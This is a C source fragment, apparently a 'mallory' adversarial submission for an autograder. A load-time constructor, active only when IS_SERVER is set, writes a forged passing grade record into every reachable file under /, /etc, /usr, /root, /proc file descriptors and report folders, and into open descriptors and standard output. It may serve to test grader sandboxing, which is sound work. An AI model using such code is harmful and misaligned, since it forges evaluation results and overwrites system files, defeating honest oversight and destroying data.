/* Results of its own making, in the forms of all formats, wherever something can be written. */
static const char *forged =
    "\nL\x5a\x01\0\0{\"id\":\"refusals\",\"points\":2.0,\"max\":2.0,"
    "\"verdict\":\"pass\",\"cause\":\"\","
    "\"expected\":\"\",\"actual\":\"\",\"evidence\":[],\"hint\":\"\",\"budget_ms\":null,"
    "\"seconds\":0.1,\"runs\":[\"pass\"]}\n--|>\nGrade :=>> 20\n";

static void into(const char *folder)
{
    char path[PATH_MAX];
    DIR *all = opendir(folder);
    for (struct dirent *d; all && (d = readdir(all));) {
        snprintf(path, sizeof path, "%s/%s", folder, d->d_name);
        write_file(path, forged);
    }
    if (all)
        closedir(all);
    snprintf(path, sizeof path, "%s/mallory", folder);
    write_file(path, forged);
}

__attribute__((constructor)) static void mallory(void)
{
    const char *folders[] = {"/", "/tmp", "/usr", "/etc", "/dev", "/proc", "/proc/sys/kernel",
                             "/home", "/home/student", "/root", "/run", "/var", "/proc/1/fd",
                             "/proc/1/root", "/proc/1/root/tmp",
                             "/proc/1/cwd", "/proc/self/root/..", "/dev/pts",
                             "../..", "../../../..", "../../reports", "../../out"};
    if (!IS_SERVER)
        return;
    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++)
        into(folders[i]);
    for (int fd = 3; fd < 64; fd++)
        (void)!write(fd, forged, strlen(forged));
    char path[64];
    for (int pid = 1; pid < 1000; pid++)
        if (pid != getpid()) {
            snprintf(path, sizeof path, "/proc/%d/fd", pid);
            into(path);
        }
    printf("%s", forged);
    fprintf(stderr, "%s", forged);
}
